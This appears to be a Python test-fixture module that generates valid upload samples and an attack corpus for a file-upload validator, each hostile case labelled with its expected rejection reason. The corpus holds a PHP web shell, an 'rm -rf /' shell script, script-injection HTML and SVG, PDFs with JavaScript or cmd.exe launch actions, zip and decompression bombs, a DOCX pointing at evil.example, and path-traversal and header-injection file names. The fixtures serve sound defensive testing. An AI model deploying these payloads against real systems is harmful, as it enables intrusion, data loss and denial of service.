"""Files for the file tests, built in pure Python (Pillow for images), no fixtures on disk: valid
samples of every allowed type, and an attack corpus with the reason each attack is refused for."""
from __future__ import annotations

import io
import math
import random
import struct
import wave
import zipfile
import zlib


def jpeg_bytes(width: int = 64, height: int = 48, *, noise: bool = False, quality: int = 85, seed: int = 1) -> bytes:
    from PIL import Image

    if noise:
        image = Image.frombytes("RGB", (width, height), random.Random(seed).randbytes(width * height * 3))
    else:
        image = Image.new("RGB", (width, height), (200, 120, 40))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=quality)
    return out.getvalue()


def jpeg_of_size(target: int, seed: int = 1) -> bytes:
    """A real photo-like JPEG of about `target` bytes (noise compresses poorly)."""
    side = max(16, int(math.sqrt(target / 1.1)))
    data = jpeg_bytes(side, side, noise=True, quality=75, seed=seed)
    return data


def png_bytes(width: int = 40, height: int = 30) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGBA", (width, height), (10, 200, 30, 255)).save(out, "PNG")
    return out.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A 1-bit PNG of side×side black pixels: ~100 KB on disk, gigabytes once decoded."""
    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row * 1000) for _ in range(side // 1000)]
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")


def pdf_bytes(extra_catalog: str = "", extra_objects: tuple[str, ...] = ()) -> bytes:
    """A minimal valid one-page PDF with a correct cross-reference table."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {extra_catalog}>>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        None,  # content stream
        *extra_objects,
    ]
    content = b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET"
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode())
        if body is None:
            out.write(f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream")
        else:
            out.write(body.encode("latin-1"))
        out.write(b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
CONTENT_TYPES_DOCM = CONTENT_TYPES_DOCX.replace(
    "wordprocessingml.document.main+xml", "wordprocessingml.document.macroEnabled.main+xml"
).replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Акт выполненных работ</w:t></w:r></w:p></w:body></w:document>"
)


def docx_bytes(*, macros: bool = False, bomb_mb: int = 0, external_template: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_DOCM if macros else CONTENT_TYPES_DOCX)
        archive.writestr("_rels/.rels", ROOT_RELS)
        if bomb_mb:
            with archive.open("word/document.xml", "w") as member:
                member.write(DOCUMENT_XML[:-len("</w:body></w:document>")].encode())
                block = b" " * (1024 * 1024)
                for _ in range(bomb_mb):
                    member.write(block)
                member.write(b"</w:body></w:document>")
        else:
            archive.writestr("word/document.xml", DOCUMENT_XML)
        if macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name" * 50)
        if external_template:
            archive.writestr(
                "word/_rels/settings.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                "</Relationships>",
            )
    return out.getvalue()


def ole_bytes(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors, no mini stream)."""
    free, end_of_chain, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    entries = [("Root Entry", 5, b"")] + [(name, 1, b"") for name in storages]
    entries += [(name, 2, data) for name, data in streams.items()]
    directory_sectors = (len(entries) + 3) // 4
    fat = [fat_sector] + [2 + k if k < directory_sectors - 1 else end_of_chain for k in range(directory_sectors)]
    next_sector, body, starts = 1 + directory_sectors, b"", {}
    for name, kind, data in entries:
        if kind != 2:
            continue
        padded = data.ljust(max(4096, -(-len(data) // 512) * 512), b"\x00")
        count = len(padded) // 512
        starts[name] = next_sector
        fat += [next_sector + k + 1 if k < count - 1 else end_of_chain for k in range(count)]
        next_sector += count
        body += padded
    assert len(fat) <= 128
    fat += [free] * (128 - len(fat))
    directory = b""
    for index, (name, kind, data) in enumerate(entries):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        right = index + 1 if index + 1 < len(entries) and index > 0 else no_stream
        child = 1 if index == 0 and len(entries) > 1 else no_stream
        start = starts.get(name, end_of_chain) if kind == 2 else (end_of_chain if kind == 5 else 0)
        directory += (
            encoded.ljust(64, b"\x00") + struct.pack("<HBBIII", len(encoded), kind, 1, no_stream, right, child)
            + b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16 + struct.pack("<IQ", start, len(data))
        )
    directory = directory.ljust(directory_sectors * 512, b"\x00")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain, 0)
        + struct.pack("<I", 0) + struct.pack("<I", free) * 108
    )
    assert len(header) == 512
    return header + struct.pack("<128I", *fat) + directory + body


def doc_bytes(*, macros: bool = False) -> bytes:
    word = b"\xec\xa5\xc1\x00" + b"\x00" * 4092
    streams = {"WordDocument": word, "1Table": b"\x00" * 4096}
    return ole_bytes(streams, storages=("Macros",) if macros else ())


def mp3_bytes(seconds: float = 2.0) -> bytes:
    """MPEG-1 Layer III frames, 128 kbit/s, 44.1 kHz: header plus silence."""
    frame = b"\xff\xfb\x90\x64" + b"\x00" * (417 - 4)
    return frame * max(4, int(seconds * 44100 / 1152))


def wav_bytes(seconds: float = 1.0, rate: int = 8000) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(b"\x00\x01" * int(rate * seconds))
    return out.getvalue()


def ogg_bytes(seconds: float = 2.0, rate: int = 8000) -> bytes:
    """An Ogg Vorbis stream: identification and comment headers, then a last page at the end granule."""
    from mutagen.ogg import OggPage

    ident = (b"\x01vorbis" + struct.pack("<IBIiii", 0, 1, rate, 0, 32000, 0) + bytes([0xB8, 1]))
    comment = b"\x03vorbis" + struct.pack("<I", 4) + b"test" + struct.pack("<I", 0) + b"\x01"
    setup = b"\x05vorbis" + b"\x00" * 32
    pages = []
    for sequence, (packets, granule, flags) in enumerate((
        ([ident], 0, 0x02), ([comment, setup], 0, 0), ([b"\x00" * 40], int(rate * seconds), 0x04),
    )):
        page = OggPage()
        page.serial, page.sequence, page.position, page.packets = 1234, sequence, granule, packets
        page.first, page.last = bool(flags & 0x02), bool(flags & 0x04)
        pages.append(page.write())
    return b"".join(pages)


def _atom(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def m4a_bytes(seconds: float = 2.0, rate: int = 8000) -> bytes:
    """An MP4 audio file: ftyp, moov with one AAC ('mp4a') track, an empty mdat."""
    duration = int(seconds * rate)
    mvhd = _atom(b"mvhd", b"\x00" * 4 + struct.pack(">IIII", 0, 0, rate, duration) + b"\x00\x01\x00\x00"
                 + b"\x01\x00" + b"\x00" * 10 + b"\x00\x01\x00\x00" + b"\x00" * 12 + b"\x00\x01\x00\x00"
                 + b"\x00" * 12 + b"\x40\x00\x00\x00" + b"\x00" * 24 + struct.pack(">I", 2))
    mdhd = _atom(b"mdhd", b"\x00" * 4 + struct.pack(">IIIIHH", 0, 0, rate, duration, 0x55C4, 0))
    hdlr = _atom(b"hdlr", b"\x00" * 4 + b"\x00" * 4 + b"soun" + b"\x00" * 12 + b"SoundHandler\x00")
    esds = _atom(b"esds", b"\x00" * 4 + bytes([0x03, 25, 0, 1, 0, 0x04, 17, 0x40, 0x15]) + b"\x00" * 3
                 + struct.pack(">II", 32000, 32000) + bytes([0x05, 2, 0x15, 0x88, 0x06, 1, 2]))
    mp4a = _atom(b"mp4a", b"\x00" * 6 + struct.pack(">H", 1) + b"\x00" * 8
                 + struct.pack(">HHHH", 1, 16, 0, 0) + struct.pack(">I", rate << 16) + esds)
    stsd = _atom(b"stsd", b"\x00" * 4 + struct.pack(">I", 1) + mp4a)
    empty_tables = b"".join(_atom(name, b"\x00" * 4 + struct.pack(">I", 0)) for name in (b"stts", b"stsc", b"stco"))
    stsz = _atom(b"stsz", b"\x00" * 4 + struct.pack(">II", 0, 0))
    stbl = _atom(b"stbl", stsd + empty_tables + stsz)
    minf = _atom(b"minf", _atom(b"smhd", b"\x00" * 8) + stbl)
    tkhd = _atom(b"tkhd", b"\x00\x00\x00\x07" + struct.pack(">IIIII", 0, 0, 1, 0, duration) + b"\x00" * 60)
    trak = _atom(b"trak", tkhd + _atom(b"mdia", mdhd + hdlr + minf))
    ftyp = _atom(b"ftyp", b"M4A " + struct.pack(">I", 0) + b"M4A mp42isom")
    return ftyp + _atom(b"moov", mvhd + trak) + _atom(b"mdat", b"\x00" * 64)


def amr_bytes(seconds: float = 2.0) -> bytes:
    """AMR-NB at 12.2 kbit/s: one 32-byte frame every 20 ms."""
    return b"#!AMR\n" + (b"\x3c" + b"\x11" * 31) * int(seconds * 50)


# (file name, bytes, kind) of valid samples: one per allowed extension.
def valid_samples() -> list[tuple[str, bytes, str]]:
    return [
        ("фото БСО.jpg", jpeg_bytes(), "bso"),
        ("scan.JPEG", jpeg_bytes(32, 32), "expense"),
        ("чек.png", png_bytes(), "expense"),
        ("акт.pdf", pdf_bytes(), "bso"),
        ("акт.docx", docx_bytes(), "bso"),
        ("старый акт.doc", doc_bytes(), "expense"),
        ("звонок.mp3", mp3_bytes(), "recording"),
        ("звонок.wav", wav_bytes(), "recording"),
        ("звонок.ogg", ogg_bytes(), "recording"),
        ("звонок.m4a", m4a_bytes(), "recording"),
        ("звонок.amr", amr_bytes(), "recording"),
        ("квитанция.pdf", pdf_bytes(), "transaction"),
        ("квитанция.jpg", jpeg_bytes(), "transaction"),
    ]


MZ_EXECUTABLE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48
                 + b"This program cannot be run in DOS mode")
ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
PHP_SHELL = b"<?php system($_GET['c']); ?>"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
              b"<script>alert(1)</script></svg>")
SHELL_SCRIPT = b"#!/bin/sh\nrm -rf /\n"


def polyglot_jpeg_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("shell.php", PHP_SHELL)
    return jpeg_bytes() + out.getvalue()


def pdf_with_javascript() -> bytes:
    return pdf_bytes("/OpenAction 5 0 R ", ("<< /Type /Action /S /JavaScript /JS (app.alert('x')) >>",))


def pdf_with_escaped_javascript() -> bytes:
    return pdf_bytes("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ")


def pdf_with_launch() -> bytes:
    return pdf_bytes("/OpenAction << /S /Launch /F (cmd.exe) >> ")


def pdf_with_embedded_file() -> bytes:
    return pdf_bytes("/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
                     ("<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",))


# (case id, file name, bytes, kind, expected reason code)
def attack_corpus() -> list[tuple[str, str, bytes, str, str]]:
    return [
        ("exe renamed jpg", "photo.jpg", MZ_EXECUTABLE, "bso", "executable"),
        ("elf renamed mp3", "call.mp3", ELF_EXECUTABLE, "recording", "executable"),
        ("php as jpg", "image.jpg", PHP_SHELL, "bso", "script"),
        ("php with leading blanks as png", "image.png", b"\n\n  " + PHP_SHELL, "expense", "script"),
        ("html as pdf", "doc.pdf", HTML_PAGE, "bso", "script"),
        ("html utf-16 as jpg", "doc.jpg", "\ufeff<html><script>x</script>".encode("utf-16"), "bso", "script"),
        ("svg with script as png", "pic.png", SVG_SCRIPT, "bso", "script"),
        ("shell script as docx", "doc.docx", SHELL_SCRIPT, "bso", "script"),
        ("php inside a jpeg comment", "photo.jpg", jpeg_bytes()[:2] + b"\xff\xfe\x00\x20<?php system($x); ?>!!!!!!"
         + jpeg_bytes()[2:], "bso", "script"),
        ("pdf with javascript", "doc.pdf", pdf_with_javascript(), "bso", "pdf_active"),
        ("pdf with escaped javascript name", "doc.pdf", pdf_with_escaped_javascript(), "bso", "pdf_active"),
        ("pdf with launch action", "doc.pdf", pdf_with_launch(), "expense", "pdf_active"),
        ("pdf with embedded file", "doc.pdf", pdf_with_embedded_file(), "transaction", "pdf_active"),
        ("jpeg+zip polyglot", "photo.jpg", polyglot_jpeg_zip(), "bso", "polyglot"),
        ("jpeg with trailing junk", "photo.jpg", jpeg_bytes() + b"junk" * 100, "bso", "trailing_data"),
        ("png+zip polyglot", "scan.png", png_bytes() + polyglot_jpeg_zip()[-200:], "bso", "polyglot"),
        ("pdf+zip polyglot", "doc.pdf", pdf_bytes() + polyglot_jpeg_zip()[len(jpeg_bytes()):], "bso", "polyglot"),
        ("zip bomb docx", "act.docx", docx_bytes(bomb_mb=20), "bso", "zip_bomb"),
        ("docm renamed docx", "act.docx", docx_bytes(macros=True), "bso", "office_macros"),
        ("docx with external template", "act.docx", docx_bytes(external_template=True), "bso", "office_macros"),
        ("doc with macros", "act.doc", doc_bytes(macros=True), "bso", "office_macros"),
        ("docm extension", "act.docm", docx_bytes(macros=True), "bso", "extension"),
        ("decompression bomb png", "bomb.png", png_bomb(), "bso", "image_too_large"),
        ("truncated jpeg", "photo.jpg", jpeg_bytes(200, 200, noise=True)[:3000], "bso", "image_corrupt"),
        ("empty file", "empty.jpg", b"", "bso", "empty"),
        ("wrong extension for the kind: mp3 as bso", "call.mp3", mp3_bytes(), "bso", "extension"),
        ("wrong extension for the kind: jpg as recording", "photo.jpg", jpeg_bytes(), "recording", "extension"),
        ("svg extension", "pic.svg", SVG_SCRIPT, "bso", "extension"),
        ("exe extension", "setup.exe", MZ_EXECUTABLE, "bso", "extension"),
        ("html extension", "page.html", HTML_PAGE, "bso", "extension"),
        ("jpeg named png", "photo.png", jpeg_bytes(), "bso", "mismatch"),
        ("zip named docx", "act.docx", polyglot_jpeg_zip()[len(jpeg_bytes()):], "bso", "office_corrupt"),
        ("rtf named doc", "act.doc", b"{\\rtf1\\ansi {\\object\\objemb}}", "bso", "rtf"),
        ("random bytes named mp3", "call.mp3", random.Random(5).randbytes(5000), "recording", "mismatch"),
        ("broken amr", "call.amr", b"#!AMR\n" + b"\xff" * 100, "recording", "audio_corrupt"),
        ("mp3 without frames", "call.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x10" + b"\x00" * 16 + b"zz" * 500,
         "recording", "audio_corrupt"),
        ("traversal name", "../../etc/passwd.jpg", jpeg_bytes(), "bso", "name_path"),
        ("windows traversal name", "..\\..\\boot.ini.jpg", jpeg_bytes(), "bso", "name_path"),
        ("hidden name", ".htaccess.jpg", jpeg_bytes(), "bso", "name_path"),
        ("NUL in name", "photo.php\x00.jpg", jpeg_bytes(), "bso", "name_control"),
        ("newline in name", "photo\r\nX-Header: 1.jpg", jpeg_bytes(), "bso", "name_control"),
        ("right-to-left override", "invoice\u202egpj.exe", MZ_EXECUTABLE, "bso", "name_unicode"),
        ("zero-width space", "photo\u200b.jpg", jpeg_bytes(), "bso", "name_unicode"),
        ("full-width extension", "photo.ｐｈｐ", PHP_SHELL, "bso", "name_unicode"),
        ("cyrillic look-alike extension", "photo.jрg", jpeg_bytes(), "bso", "extension"),
        ("double extension", "shell.php.jpg", jpeg_bytes(), "bso", "name_double_extension"),
        ("trailing dot", "shell.php.", PHP_SHELL, "bso", "name_trailing"),
        ("windows stream name", "photo.jpg:evil.exe", jpeg_bytes(), "bso", "name_chars"),
        ("no extension", "photo", jpeg_bytes(), "bso", "name_no_extension"),
        ("empty name", "", jpeg_bytes(), "bso", "name_missing"),
        ("long name", "я" * 300 + ".jpg", jpeg_bytes(), "bso", "name_too_long"),
    ]
